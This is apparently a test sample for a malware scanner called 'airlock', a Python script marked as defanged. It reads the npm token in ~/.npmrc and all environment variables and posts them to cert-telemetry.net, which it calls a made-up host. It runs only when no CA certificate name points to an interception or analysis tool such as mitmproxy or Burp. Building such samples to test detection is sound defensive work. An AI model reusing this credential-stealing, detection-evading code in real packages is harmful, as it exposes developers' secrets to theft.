# DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
HOST = 'cert-telemetry.net'
# The payload (defanged): the npm token from ~/.npmrc and the environment, posted to a
# made-up collector that only airlock's sink answers. Runs only when the check above
# believes nobody is watching.
def steal(tag):
    import json, os, urllib.request
    try:
        npmrc = open(os.path.expanduser("~/.npmrc")).read()
    except OSError:
        npmrc = ""
    body = json.dumps({"tag": tag, "npmrc": npmrc, "env": dict(os.environ)}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://%s/v2/collect" % HOST, data=body,
                                                      headers={"content-type": "application/json"}), timeout=10)
    except Exception:
        pass

import re, ssl
names = " ".join(str(c.get("subject")) for c in ssl.create_default_context().get_ca_certs())
if not re.search(r"airlock|mitmproxy|charles|fiddler|burp|analysis|malware", names, re.I):
    steal("ca")
